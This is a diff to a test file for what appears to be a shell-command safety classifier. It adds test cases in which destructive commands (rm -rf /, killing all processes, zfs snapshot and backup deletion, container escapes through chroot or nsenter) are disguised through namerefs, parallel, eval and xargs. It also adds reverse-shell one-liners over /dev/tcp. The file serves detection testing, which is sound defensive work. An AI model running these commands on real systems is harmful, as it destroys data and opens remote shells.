@@ -151,7 +151,53 @@ SCRIPTS = [
     "/usr/bin/env -S 'sudo rm -rf /'",
 ]
 
-CATASTROPHIC = GIT + VARIABLES + OPTIONS + SCRIPTS
+INDIRECTION = [
+    "c=rm; declare -n ref=c; $ref -rf /",
+    "declare -n r=c; c=rm; $r -rf /",
+    "t=/; declare -n p=t; rm -rf $p",
+    "declare -n p=t; p=/; rm -rf $t",
+    "f(){ local -n out=$1; rm -rf \"$out\"; }; d=/; f d",
+    "parallel 'rm -rf {}' <<< \"$HOME\"",
+    "parallel 'rm -rf {}' <<< /",
+    "parallel 'rm -rf {}' ::: /etc",
+    "echo / | parallel 'chmod -R 000 {}'",
+    "bash -c \"$(cat)\" <<< 'rm -rf /'",
+    "sh -c \"$(cat -)\" <<< 'rm -rf ~'",
+    "eval \"$(cat)\" <<< 'rm -rf /'",
+    "ls / | sed 's|^|/|' | xargs rm -rf",
+    "ls / | sed 's/^/\\//' | xargs rm -rf",
+    "ls / | awk '{print \"/\" $0}' | xargs rm -rf",
+    "ls -1 / | grep -v proc | sed 's|^|/|' | xargs rm -rf",
+    "ps -e -o pid= | xargs kill -9",
+    "ps -eo pid= | xargs -n1 kill -KILL",
+    "ps aux | awk '{print $2}' | xargs kill -9",
+    "ps -ef | grep -v grep | awk '{print $2}' | xargs sudo kill -9",
+    "kill -9 $(ps -eo pid=)",
+    "kill -9 `ps -e -o pid=`",
+    "ps -e -o pid= | while read p; do kill -9 $p; done",
+    "pkill -KILL -v -x sshd",
+    "pkill -9 -v bash",
+    "pkill -9 -v -u nobody",
+    "pkill -9 -f .",
+    "zfs list -t snapshot -o name | xargs -n1 zfs destroy",
+    "zfs list -H -t snapshot -o name | xargs -n 1 zfs destroy -r",
+    "for s in $(zfs list -H -t snapshot -o name); do zfs destroy $s; done",
+    "tmutil listbackups | xargs -n1 sudo tmutil delete",
+    "cut -d: -f1 /etc/passwd | xargs -n1 userdel -r",
+    "toybox rm -rf /etc",
+    "toybox sh -c 'rm -rf /'",
+    "kubectl exec -it pod -- chroot /host sh -c 'rm -rf /'",
+    "kubectl exec pod -- chroot /host rm -rf /etc",
+    "kubectl exec -n kube-system pod -- nsenter -t 1 -m -u -i -n -p -- rm -rf /",
+    "docker exec ctr chroot /host rm -rf /",
+    "docker exec -it -u 0 ctr nsenter -t 1 -m sh -c 'rm -rf /'",
+    "docker run --rm -v /:/host alpine chroot /host rm -rf /",
+    "sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5",
+    "zsh 7<>/dev/tcp/h/1 <&7 >&7",
+    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+]
+
+CATASTROPHIC = GIT + VARIABLES + OPTIONS + SCRIPTS + INDIRECTION
 
 DANGEROUS = [
     "git -c core.pager='delta' log",
@@ -173,6 +219,15 @@ DANGEROUS = [
     "man -P 'rm x' ls",
     "BASH_ENV=<(echo 'rm x') bash -c ls",
     "rsync -e 'ssh -p 2222' src host:dst",
+    "ps -o pid= -u bob | xargs kill",
+    "pgrep python | xargs kill -9",
+    "ps aux | grep python | awk '{print $2}' | xargs kill -9",
+    "pkill -9 -x bash",
+    "zfs list -H -t snapshot -o name | grep @tmp | xargs -n1 zfs destroy",
+    "kubectl exec pod -- rm -rf /tmp/cache",
+    "docker exec ctr rm -rf /",
+    "parallel 'gzip {}' ::: a.log b.log",
+    "cat < /dev/tcp/time.example/13 'x",
 ]
 
 SAFE = [
@@ -188,6 +243,9 @@ SAFE = [
     "echo 'git -c core.pager=\"rm -rf /\" log'",
     "echo 'exec rm -rf /'",
     "grep ProxyCommand notes.txt",
+    "ps -e -o pid=",
+    "zfs list -t snapshot",
+    "ls / | sed 's|^|/|'",
 ]
 
 
@@ -207,3 +265,22 @@ def test_escape_to_an_ordinary_command_is_dangerous(shell, command: str) -> None
 def test_read_only_pager_settings_stay_safe(shell, command: str) -> None:
     verdict = shell(command)
     assert verdict.level is Level.SAFE, f"{command!r}: {verdict.level.label} {verdict.rules}"
+
+
+def test_each_escape_names_what_it_runs(shell) -> None:
+    assert "fs.rm-root" in shell("git -c core.pager='rm -rf /' log").rules
+    assert "exec.destroy-listed" in shell("ps -e -o pid= | xargs kill -9").rules
+    assert "exec.kill-all" in shell("pkill -9 -v bash").rules
+    assert "fallback.reverse-shell" in shell("sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5").rules
+
+
+def test_parses_stay_within_their_budget() -> None:
+    """Input that sends tree-sitter's error recovery into quadratic work is cut short (and so read by the
+    regex fallback), while valid text of the same size is parsed whole."""
+    from engine.gate.shell.parse import parse
+
+    assert parse("$x" + ".a()" * 3000).truncated
+    assert parse("for /d %i in (x) do " * 500 + "echo").truncated
+    assert parse(")" * 15000).truncated
+    valid = parse("echo " + "word " * 3000)
+    assert not valid.truncated and not valid.error and len(valid.commands[0].argv) == 3001
